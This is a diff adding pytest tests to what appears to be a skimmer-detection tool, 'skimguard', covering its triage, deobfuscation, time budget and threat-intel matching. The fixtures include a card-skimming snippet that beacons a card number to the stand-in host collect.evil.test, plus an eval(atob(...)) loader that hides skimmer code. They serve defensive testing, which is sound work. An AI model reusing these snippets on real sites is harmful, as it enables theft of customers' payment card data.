@@ -7,6 +7,9 @@ from __future__ import annotations
 
 import hashlib
 
+import pytest
+
+from skimguard.analyze import engine
 from skimguard.analyze.engine import MALICIOUS_AT, Options, analyze_bytes, catalog, judge
 from skimguard.analyze.model import CodeHit, Language, Layer, Verdict
 from skimguard.intel import IntelIndex, parse_feed
@@ -108,3 +111,67 @@ def test_the_catalog_documents_every_rule_once() -> None:
     assert ids == sorted(set(ids)) and "SG450" in ids
     assert all(i.startswith("SG4") for i in ids)
     assert all(r.title and r.description for r in catalog())
+
+
+# --- triage: deep layers only where they can pay ---------------------------------------------
+
+CARD_BEACON = (
+    "function send(){ var n = document.querySelector('[name=cardnumber]').value; "
+    "navigator.sendBeacon('https://collect.evil.test/c', n); }\nsend();\n"
+)
+PADDING = "".join(f"var pad{i} = {i};\n" for i in range(1200))  # 20 KiB of plain code
+
+
+def test_a_large_script_is_parsed_only_with_evidence() -> None:
+    small = analyze_bytes(CARD_BEACON.encode(), "a.js")
+    assert [(h.rule_id, h.severity) for h in small.hits] == [("SG445", Severity.LOW), ("SG407", Severity.INFO)]
+    large = analyze_bytes((PADDING + CARD_BEACON).encode(), "a.js")
+    assert [h.rule_id for h in large.hits] == ["SG407"]
+    assert large.problems == (
+        "structure layer skipped on 1 segment(s) larger than 16 KiB without evidence (no rule hit of medium or "
+        "higher severity, no decoded card, checkout or login words; largest 21 KiB)",
+    )
+    # a medium rule (SG405 and more) is evidence: the structure layer runs and convicts
+    evident = analyze_bytes((PADDING + SKIMMER).encode(), "a.js")
+    assert (evident.verdict, evident.problems) == (Verdict.MALICIOUS, ())
+    assert next(h for h in evident.hits if h.rule_id == "SG440").line == 1200 + 4
+
+
+def test_deobfuscation_that_reveals_card_words_is_evidence() -> None:
+    escaped = "".join(f"\\x{ord(c):02x}" for c in "[name=cardnumber]")
+    hidden = CARD_BEACON.replace("'[name=cardnumber]'", f"'{escaped}'")
+    v = analyze_bytes((PADDING + hidden).encode(), "a.js")
+    assert "decoded:hex-escape" in v.traits and v.problems == ()
+    assert {h.rule_id for h in v.hits} >= {"SG445"}
+
+
+def test_plain_code_is_not_normalized_but_hidden_code_is() -> None:
+    plain = analyze_bytes(b"var a = 'x' + y; var s = '\\u00a0';", "a.js")
+    assert plain.traits == () and plain.hits == ()
+    split = analyze_bytes(b"var u = 'chec' + 'kout'; if (location.href.indexOf(u) > -1) { go(); }", "a.js")
+    assert "decoded:concat" in split.traits
+
+
+def test_the_deep_layers_stop_at_the_file_budget(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(engine, "DEEP_BUDGET_SECONDS", -1.0)
+    hidden = "eval(atob('" + __import__("base64").b64encode(SKIMMER.encode()).decode() + "'));"
+    v = analyze_bytes(hidden.encode(), "loader.js")
+    assert v.problems == (
+        "deep analysis time budget (-1 s) spent: normalization cut short 0 time(s), normalization or structure "
+        "skipped 1 time(s)",
+    )
+    assert v.traits == () and [h.rule_id for h in v.hits] == ["SG428"]  # the rules still ran
+
+
+def test_intel_keeps_the_first_indicator_as_written_and_falls_back_to_decoded_text() -> None:
+    feed = Options(intel=IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators))
+    url = "https://static.evil-cdn.test/s.js"
+    hidden = "var u = atob('" + __import__("base64").b64encode(url.encode()).decode() + "');\n"
+    decoded_only = next(h for h in analyze_bytes(hidden.encode(), "x.js", feed).hits if h.rule_id == "SG450")
+    assert (decoded_only.normalized, decoded_only.line, decoded_only.column) == (True, 1, 1)
+    both = hidden + f"var v = '{url}';\n"
+    plain = next(h for h in analyze_bytes(both.encode(), "x.js", feed).hits if h.rule_id == "SG450")
+    assert (plain.normalized, plain.line, plain.column, plain.excerpt) == (False, 2, 10, url)
+    page = f"<html>\n<body>\n<script>\nload('{url}');\n</script>\n</body>\n</html>\n"
+    in_page = next(h for h in analyze_bytes(page.encode(), "p.html", feed).hits if h.rule_id == "SG450")
+    assert (in_page.normalized, in_page.line, in_page.column) == (False, 4, 7)
